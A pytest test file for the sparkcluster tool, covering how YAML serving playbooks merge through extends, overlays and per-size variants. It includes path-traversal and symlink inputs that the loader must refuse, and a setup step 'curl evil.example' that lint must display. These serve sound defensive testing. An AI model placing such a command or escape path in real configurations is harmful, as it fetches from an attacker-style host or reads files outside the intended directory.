"""Composition of playbooks and their variants: precedence, merging, and the place of a problem."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sparkcluster.cli.main import guarded
from sparkcluster.errors import SpecError, UsageError
from sparkcluster.linting import lint
from sparkcluster.spec import load

BASE = """\
name: base
model: {id: owner/model, revision: abc}
image: vllm/vllm-openai:v0.20.0
overlays: [drafts]
args:
  max-model-len: 4096
  kv-cache-dtype: fp8
  speculative-config: {method: mtp, num_speculative_tokens: 3}
env: {VLLM_A: "1", VLLM_B: "2"}
allow: [{code: NET-001, reason: one reason is enough}]
verify: {max_tokens: 1024, expect: "204"}
"""
DRAFTS = """\
overlay: drafts
args:
  speculative-config: {method: ngram, prompt_lookup_max: 4}
"""


@pytest.fixture
def folder(tmp_path: Path):
    (tmp_path / "overlays").mkdir()
    (tmp_path / "base.yaml").write_text(BASE)
    (tmp_path / "overlays" / "drafts.yaml").write_text(DRAFTS)

    def write(text: str, name: str = "mine") -> Path:
        path = tmp_path / f"{name}.yaml"
        path.write_text(text)
        return path

    return write


def refused(path: Path) -> str:
    with pytest.raises(UsageError) as caught:
        load.read_playbook(path)[0]
    told = [(str(one), one.hint) for one in getattr(caught.value, "problems", ())]
    return "\n".join(f"{said} | {hint}" for said, hint in told or [(caught.value.message, caught.value.hint)])


def test_the_extending_playbook_wins_key_by_key(folder):
    """A value in args is replaced and not merged; null removes a key; lists are joined without duplicates."""
    mine = load.read_playbook(
        folder(
            "name: mine\nextends: base\nargs: {max-model-len: 8192, speculative-config: {method: eagle}, kv-cache-dtype: null}\n"
            "env: {VLLM_A: null}\nverify: {expect: '7'}\nallow:\n- {code: NET-001, reason: one reason is enough}\n"
            "- {code: NET-002, reason: another good reason}\n"
        )
    )[0]
    assert mine.args == {"max-model-len": 8192, "speculative-config": {"method": "eagle"}}
    assert (mine.verify.expect, mine.verify.max_tokens) == ("7", 1024)
    assert (mine.name, mine.image) == ("mine", "vllm/vllm-openai:v0.20.0")
    assert mine.env == {"VLLM_B": "2"}
    assert [one.code for one in mine.allow] == ["NET-001", "NET-002"]


def test_another_model_replaces_the_complete_model_section(folder):
    mine = load.read_playbook(folder("name: mine\nextends: base\nmodel: {path: /weights}\n"))[0]
    assert (mine.model.id, mine.model.path, mine.model.revision) == (None, "/weights", "main")
    later = load.read_playbook(folder("name: mine\nextends: base\nmodel: {revision: def}\n"))[0]
    assert (later.model.id, later.model.revision) == ("owner/model", "def")


def test_an_overlay_is_applied_by_name(folder):
    inventory = folder("cluster: x\nplaybook: base+drafts\nnodes: [{host: a}]\n", "inventory")
    spec = load.load(inventory)
    assert spec.playbook.name == "base-drafts"
    assert spec.playbook.args["speculative-config"] == {"method": "ngram", "prompt_lookup_max": 4}
    assert spec.playbook.args["max-model-len"] == 4096
    assert load.load(inventory, "base").playbook.args["speculative-config"]["method"] == "mtp"
    mine = load.read_playbook(folder("name: mine\nextends: base+drafts\nargs: {max-num-seqs: 2}\n"))[0]
    assert (mine.args["speculative-config"]["method"], mine.args["max-num-seqs"]) == ("ngram", 2)


def test_every_key_remembers_its_file(folder, tmp_path):
    folder("name: mine\nextends: base\nargs: {max-num-seqs: 2}\noverlays: [drafts]\n")
    spec = load.load(folder("cluster: x\nplaybook: mine+drafts\nnodes: [{host: a}]\n", "inventory"))
    assert spec.places["args", "max-num-seqs"] == (str(tmp_path / "mine.yaml"), 3)
    assert spec.places["args", "kv-cache-dtype"] == (str(tmp_path / "base.yaml"), 7)
    assert spec.places["args", "speculative-config"] == (str(tmp_path / "overlays/drafts.yaml"), 3)
    assert spec.places["allow", 0, "code"] == (str(tmp_path / "base.yaml"), 10)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("name: mine\nextends: bass\n", ["mine.yaml:2:", "no playbook named", "did you mean base?"]),
        ("name: mine\nextends: ./mine.yaml\n", ["mine.yaml:2:", "mine.yaml extends mine.yaml"]),
        ("extends: base\n", ["mine.yaml:1:", "name: is required"]),
        ("name: mine\nextends: base+ngram\n", ["mine.yaml:2:", "base does not allow", "allowed: drafts"]),
        ("name: mine\nextends: base+../x\n", ["mine.yaml:2:"]),
        ("name: mine\nextends: ./overlays/drafts.yaml\n", ["is an overlay, not a playbook"]),
    ],
)
def test_values_that_cannot_be_merged_are_an_error(folder, text, words):
    said = refused(folder(text))
    for word in words:
        assert word in said


def test_too_many_levels_are_an_error(folder):
    for level in range(12):
        folder(f"name: p{level}\nextends: p{level + 1}\n", f"p{level}")
    folder(BASE, "p12")
    assert "levels of extends" in refused(folder("name: mine\nextends: p0\n"))
    assert load.read_playbook(folder("name: mine\nextends: p8\n"))[0].args["max-model-len"] == 4096


SECRET = "a line that belongs to the user: [unfinished\n"


@pytest.mark.parametrize(
    "reference", ["/{outside}/x.yaml", "~/x.yaml", "~nobody/x.yaml", "sub/../../outside/x", "link.yaml", "x"]
)
def test_extends_cannot_leave_the_playbooks_directory(folder, tmp_path, monkeypatch, reference):
    """By an absolute path, a home directory, .., a link to a file or a directory; no content of the file is shown."""
    outside, inside = tmp_path / "outside", tmp_path / "recipe"
    outside.mkdir()
    monkeypatch.setenv("HOME", str(outside))
    (outside / "x.yaml").write_text(SECRET)
    (inside / "sub").mkdir(parents=True)
    (inside / "link.yaml").symlink_to(outside / "x.yaml")
    (inside / "playbooks").symlink_to(outside)
    path = inside / "mine.yaml"
    path.write_text(f"name: mine\nextends: {reference.format(outside=outside).replace('//', '/')}\n")
    said = refused(path)
    assert f"{path}:2:10: extends: " in said
    assert "is outside the playbook's directory | copy it to" in said or "no file" in said
    assert "belongs" not in said


def test_an_overlay_linked_to_an_outside_file_is_not_read(folder, tmp_path):
    (tmp_path / "user.yaml").write_text(SECRET)
    (tmp_path / "recipe" / "overlays").mkdir(parents=True)
    (tmp_path / "recipe" / "overlays" / "drafts.yaml").symlink_to(tmp_path / "user.yaml")
    (tmp_path / "recipe" / "base.yaml").write_text(BASE)
    (tmp_path / "recipe" / "mine.yaml").write_text("name: mine\nextends: base+drafts\n")
    said = refused(tmp_path / "recipe" / "mine.yaml")
    assert "is outside the playbook's directory" in said
    assert "belongs" not in said


def test_a_playbook_may_extend_one_of_a_parent_directory_in_the_same_tree(tmp_path):
    """The first playbook's directory counts, not the directory of intermediate files."""
    (tmp_path / "parts").mkdir()
    (tmp_path / "parts" / "middle.yaml").write_text("name: middle\nextends: ../base.yaml\nargs: {max-num-seqs: 2}\n")
    (tmp_path / "base.yaml").write_text(BASE)
    (tmp_path / "mine.yaml").write_text("name: mine\nextends: parts/middle.yaml\n")
    assert load.read_playbook(tmp_path / "mine.yaml")[0].args["max-model-len"] == 4096
    with pytest.raises(UsageError):
        load.read_playbook(tmp_path / "parts" / "middle.yaml")[0]


HEAD = "name: both\nmodel: {id: owner/model, revision: abc}\nimage: vllm/vllm-openai:v0.20.0\n"
BOTH = f"""{HEAD}args: {{max-model-len: 4096, kv-cache-dtype: fp8, enforce-eager: true}}
setup: [pip list]
variants:
  2:
    args: {{max-model-len: 8192, kv-cache-dtype: null}}
    setup: [echo two]
  3-4:
    tensor_parallel: auto
    args: {{max-model-len: 16384}}
"""


def inventory(*groups: int) -> str:
    """An inventory with groups of these sizes."""
    names = [[f"n{group}{node}" for node in range(size)] for group, size in enumerate(groups)]
    nodes = [{"host": name} for each in names for name in each]
    members = [{"name": f"g{at}", "nodes": each} for at, each in enumerate(names)]
    return json.dumps({"cluster": "atlas", "playbook": "both", "nodes": nodes, "groups": members})


@pytest.mark.parametrize(
    ("groups", "length", "cache", "setup"),
    [
        ((1,), 4096, "fp8", ["pip list"]),
        ((2, 2), 8192, None, ["pip list", "echo two"]),
        ((3, 4), 16384, "fp8", ["pip list"]),
    ],
)
def test_groups_get_the_variant_for_their_size(folder, groups, length, cache, setup) -> None:
    path = folder(BOTH, "both")
    spec = load.load(folder(inventory(*groups), "inventory"))
    assert spec.places["args", "enforce-eager"] == (str(path), 4)
    assert (spec.playbook.args["max-model-len"], spec.playbook.args.get("kv-cache-dtype")) == (length, cache)
    assert spec.playbook.args["enforce-eager"] is True
    assert spec.playbook.setup == setup
    # The recorded, hashed and compared playbook has no variants.
    assert spec.playbook.variants == {}
    assert (spec.playbook.name, spec.playbook.model.revision) == ("both", "abc")


def test_groups_of_different_sizes_are_refused(folder) -> None:
    folder(BOTH, "both")
    with pytest.raises(SpecError, match=r"both.yaml:6:1: variants: groups of 1 and of 2 nodes would serve different"):
        load.load(folder(inventory(1, 2), "inventory"))


def test_an_extending_playbook_overrides_the_variants_and_has_its_own(folder) -> None:
    folder(BOTH, "both")
    path = folder(
        "name: top\nextends: both\nargs: {max-model-len: 1024}\nvariants: {2+: {env: {VLLM_A: '1'}}}\n", "top"
    )
    one, two = (load.read_playbook(path, nodes=nodes)[0] for nodes in (1, 2))
    assert one.args == {"max-model-len": 1024, "kv-cache-dtype": "fp8", "enforce-eager": True}
    assert two.args == {"max-model-len": 1024, "enforce-eager": True}
    assert (one.env, two.env) == ({}, {"VLLM_A": "1"})
    assert (two.name, two.extends, two.setup) == ("top", "both", ["pip list", "echo two"])


def test_an_extending_playbook_need_not_fit_all_variants(folder) -> None:
    folder(BOTH + "  7:\n", "both")
    path = folder("name: top\nextends: both\ntensor_parallel: 1\nnodes: {max: 1}\n", "top")
    assert load.read_playbook(path)[0].ranks == 1
    assert [len(spec.inventory.nodes) for spec in lint([path]).specs[str(path)]] == [1]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("variants: [a]", "4:11: variants: must be a mapping"),
        ("variants: {two: {}}", "4:12: variants.two: this key must be a number of nodes"),
        ("variants: {4-2: {}}", "4:12: variants.4-2: "),
        ("variants: {2+: {}, 7: {}}", "4:20: variants.7: "),
        ("variants: {2: {nodes: {max: 4}}}", "4:16: variants.2.nodes: cannot differ between numbers of nodes"),
        # also of the variant that is not served
        ("variants: {2: {arg: {}}}", "4:16: arg: unknown key"),
        ("tensor_parallel: 1\nvariants: {2: {}}", "5:12: variants.2: no group of 2 nodes can serve it"),
        ("nodes: {max: 2}\nvariants: {3+: {}}", '5:12: variants."3+": no group of 3+ nodes can serve it'),
    ],
)
def test_a_malformed_variant_is_an_error_for_every_reader_of_the_file(folder, text, said) -> None:
    path = folder(f"{HEAD}{text}\n")
    with pytest.raises(SpecError) as caught:
        load.read_playbook(path)[0]
    (problem,) = caught.value.problems
    assert str(problem).startswith(f"{path}:{said}")


def test_lint_checks_each_variant_and_shows_the_permissions_of_any(folder, capsys) -> None:
    path = folder(f"{HEAD}variants: {{2: {{args: {{tensor-paralel-sise: 2}}, setup: [curl evil.example]}}}}\n")
    (found,) = [each for each in lint([path]).findings if each.code == "SPEC-003"]
    assert (found.file, found.line) == (str(path), 4)
    guarded(["lint", str(path)])
    assert "  setup      curl evil.example" in capsys.readouterr().out.splitlines()
